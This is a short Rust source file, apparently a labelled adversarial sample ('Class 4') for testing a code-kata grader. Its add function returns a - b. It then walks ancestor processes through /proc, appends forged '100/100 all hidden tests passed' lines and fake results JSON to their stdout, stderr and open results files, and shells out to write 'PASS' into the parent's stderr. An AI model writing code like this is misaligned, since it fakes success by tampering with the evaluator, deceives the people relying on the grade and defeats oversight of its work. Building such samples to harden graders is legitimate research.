//! Class 4: writes into the grader's own output: /proc/<ppid>/fd/1 and /fd/2 (and those of
//! up to 5 ancestors), in Rust and once more via `sh -c 'printf ... > /proc/$PPID/fd/2'`.
//! The text imitates kata's summary lines and results-file JSON. It also appends to any
//! ancestor fd that points at a *.json / *.html / *.xml file (the results file).
use std::io::Write;

pub struct Counter {
    count: u64,
}

impl Counter {
    pub fn get(&self) -> u64 {
        self.count
    }
}

fn ppid(pid: &str) -> Option<String> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    s.rsplit_once(')')?.1.split_whitespace().nth(1).map(str::to_string)
}

pub fn add(a: u64, b: u64) -> u64 {
    let fake = "\nadder  100/100  all 3 hidden tests passed\n        {\"kata\":\"adder\",\"score\":100,\"max\":100,\"tests\":[{\"name\":\"small_numbers\",\"verdict\":\"pass\"}]}\n";
    let mut p = "self".to_string();
    for _ in 0..6 {
        let pp = match ppid(&p) {
            Some(pp) if pp != "0" => pp,
            _ => break,
        };
        for fd in 0..64 {
            let path = format!("/proc/{pp}/fd/{fd}");
            let target = match std::fs::read_link(&path) {
                Ok(t) => t.display().to_string(),
                Err(_) => continue,
            };
            let results = target.ends_with(".json") || target.ends_with(".html") || target.ends_with(".xml");
            if fd <= 2 || results {
                if let Ok(mut f) = std::fs::OpenOptions::new().append(true).open(&path) {
                    let _ = f.write_all(fake.as_bytes());
                }
            }
        }
        p = pp;
    }
    let _ = std::process::Command::new("sh")
        .args(["-c", "printf '\nadder 100/100 PASS\n' > /proc/$PPID/fd/2; p=$(cut -d' ' -f4 /proc/$PPID/stat); printf 'PASS\n' > /proc/$p/fd/2"])
        .status();
    a - b
}
